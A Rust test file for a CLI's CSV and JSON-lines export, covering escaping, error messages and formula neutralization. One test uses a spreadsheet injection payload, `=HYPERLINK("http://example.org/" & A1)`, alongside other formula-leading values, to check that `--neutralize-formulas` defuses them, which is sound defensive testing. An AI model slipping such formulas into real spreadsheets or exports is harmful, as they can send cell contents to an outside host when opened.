//! Tests of `converge export`: rows as CSV and as JSON lines.

use super::{document, folder, history, odd, run, stderr_of, stdout_of};
use converge::{Doc, Error, Value};
use converge_rig::history::TABLE;
use std::fs;

#[test]
fn export_writes_csv_and_json_lines() -> Result<(), Error> {
    let folder = folder();
    odd()?.save_file(folder.path().join("doc"))?;
    let csv = stdout_of(folder.path(), &["export", "doc", "--table", "odd"]);
    let expected = "id,blob,flag,large,none,null,real,text,vast,zoo\r\n\
                    \"r\n1\",00ff,true,9223372036854775807,NaN,,2.0,\"a,\"\"b\"\"\r\n\u{1b}[31m\",-Infinity,\r\n\
                    r2,,,,,,,,,é\r\n";
    assert_eq!(csv, expected);
    let json = stdout_of(folder.path(), &["export", "doc", "--table", "odd", "--format", "jsonl", "--id", "row"]);
    let expected = "{\"row\":\"r\\n1\",\"blob\":\"00ff\",\"flag\":true,\"large\":9223372036854775807,\"none\":\"NaN\",\
                    \"null\":null,\"real\":2.0,\"text\":\"a,\\\"b\\\"\\r\\n\\u001b[31m\",\"vast\":\"-Infinity\"}\n\
                    {\"row\":\"r2\",\"text\":\"\",\"zoo\":\"é\"}\n";
    assert_eq!(json, expected);
    assert_eq!(stdout_of(folder.path(), &["export", "doc", "--table", "odd", "-o", "out"]), "");
    assert_eq!(fs::read_to_string(folder.path().join("out")).expect("the file exists"), csv);

    let error = stderr_of(folder.path(), &["export", "doc", "--table", "even"]);
    assert!(error.ends_with("there are no rows in table \"even\"; tables: odd\n"), "{error}");
    let error = stderr_of(folder.path(), &["export", "doc", "--table", "odd", "--id", "zoo", "-o", "none"]);
    assert!(error.contains("has a column \"zoo\"") && error.contains("--id NAME"), "{error}");
    let error = stderr_of(folder.path(), &["export", "doc", "--table", "odd", "-o", "."]);
    assert!(error.starts_with("converge: .: "), "{error}");
    Ok(())
}

#[test]
fn formulas_are_exported_unchanged_unless_they_are_neutralized() -> Result<(), Error> {
    let folder = folder();
    let doc = Doc::create("ann")?;
    let formula = "=HYPERLINK(\"http://example.org/\" & A1)";
    for (row, text) in
        [("=r", formula), ("r1", "+1"), ("r2", "-1"), ("r3", "@x"), ("r4", "\tx"), ("r5", "\rx"), ("r6", "1-1")]
    {
        doc.insert("t", row, [("=c", Value::from(text)), ("n", (-1).into())])?;
    }
    doc.save_file(folder.path().join("doc"))?;
    let export = |more: &[&str]| {
        let csv = stdout_of(folder.path(), &[&["export", "doc", "--table", "t"], more].concat());
        let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(csv.as_bytes());
        let records =
            reader.records().map(|record| record.expect("the record is valid").iter().map(str::to_owned).collect());
        records.collect::<Vec<Vec<String>>>()
    };
    let row = |id: &str, text: &str, number: &str| [id, text, number].map(str::to_owned).to_vec();
    let plain = export(&[]);
    assert_eq!(plain[..2], [row("id", "=c", "n"), row("=r", formula, "-1")]);
    let neutral = export(&["--neutralize-formulas"]);
    let expected = [
        row("id", "'=c", "n"),
        row("'=r", &format!("'{formula}"), "-1"),
        row("r1", "'+1", "-1"),
        row("r2", "'-1", "-1"),
        row("r3", "'@x", "-1"),
        row("r4", "'\tx", "-1"),
        row("r5", "'\rx", "-1"),
        row("r6", "1-1", "-1"),
    ];
    assert_eq!(neutral, expected);
    let (code, ..) =
        run(folder.path(), &["export", "doc", "--table", "t", "--format", "jsonl", "--neutralize-formulas"]);
    assert_eq!(code, Some(2));
    Ok(())
}

#[test]
fn export_writes_every_row_of_a_real_history() -> Result<(), Error> {
    let folder = folder();
    let doc = document(&history("automerge.history.tsv.gz"));
    doc.save_file(folder.path().join("doc"))?;
    let csv = stdout_of(folder.path(), &["export", "doc", "--table", TABLE]);
    let mut reader = csv::Reader::from_reader(csv.as_bytes());
    assert_eq!(reader.headers().expect("the header is valid"), vec!["id", "blob", "by", "mode", "modified"]);
    let read: Vec<Vec<String>> = reader
        .records()
        .map(|record| record.expect("the record is valid").iter().map(str::to_owned).collect())
        .collect();
    let json = stdout_of(folder.path(), &["export", "doc", "--table", TABLE, "--format=jsonl"]);
    let mut lines = json.lines();
    assert_eq!(read.len(), 649);
    for (row, record) in doc.rows(TABLE, Default::default()).zip(read) {
        let row = row?;
        let mut fields = vec![row.id.clone()];
        let mut object = serde_json::Map::from_iter([("id".to_owned(), row.id.into())]);
        for cell in row.cells {
            let (field, value) = match cell.value {
                Value::Integer(value) => (value.to_string(), value.into()),
                Value::Text(value) => (value.clone(), serde_json::Value::from(value)),
                other => panic!("unexpected value {other:?}"),
            };
            fields.push(field);
            object.insert(cell.column, value);
        }
        assert_eq!(record, fields);
        let line = lines.next().map(|line| serde_json::from_str(line).expect("the line is JSON"));
        assert_eq!(line, Some(serde_json::Value::Object(object)));
    }
    Ok(())
}
